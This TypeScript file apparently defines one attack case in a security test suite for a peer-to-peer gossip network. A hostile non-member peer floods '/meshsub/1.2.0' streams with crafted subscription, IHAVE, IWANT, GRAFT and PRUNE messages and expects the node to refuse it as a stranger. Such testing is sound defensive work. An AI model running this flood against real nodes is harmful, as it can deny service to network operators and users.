import { randomBytes } from 'node:crypto'
import type { Attack } from '../attack.ts'
import { hostilePeer } from '../support/peer.ts'
import { bytesField, lengthPrefixed, numberField } from '../support/protobuf.ts'
import { repeat } from '../support/repeat.ts'

const CONTROL = 3
const [IHAVE, IWANT, GRAFT, PRUNE] = [1, 2, 3, 4]

export const attack: Attack = {
  about: 'floods gossip with subscriptions, IHAVE, IWANT, GRAFT and PRUNE although it is no member',
  refused: ['gossip.stranger'],
  async run(context) {
    const topic = Buffer.from(`/floe/${context.target.network}/certified/1`)
    const ids = Buffer.concat(Array.from({ length: 1_000 }, () => bytesField(2, randomBytes(40))))
    const wanted = Buffer.concat(Array.from({ length: 1_000 }, () => bytesField(1, randomBytes(40))))
    const rpcs = [
      bytesField(1, Buffer.concat([numberField(1, 1), bytesField(2, topic)])),
      bytesField(CONTROL, bytesField(IHAVE, Buffer.concat([bytesField(1, topic), ids]))),
      bytesField(CONTROL, bytesField(IWANT, wanted)),
      bytesField(CONTROL, bytesField(GRAFT, bytesField(1, topic))),
      bytesField(CONTROL, bytesField(PRUNE, bytesField(1, topic))),
    ].map(lengthPrefixed)
    const peer = await hostilePeer(context)
    try {
      return await repeat({ signal: context.signal, parallel: 4, most: 5_000 }, async () => {
        const stream = await peer.open('/meshsub/1.2.0')
        for (let i = 0; i < 50 && stream.status === 'open'; i++) stream.send(rpcs[i % rpcs.length]!)
        await stream.close({ signal: AbortSignal.timeout(1_000) })
      })
    } finally {
      await peer.stop()
    }
  },
}
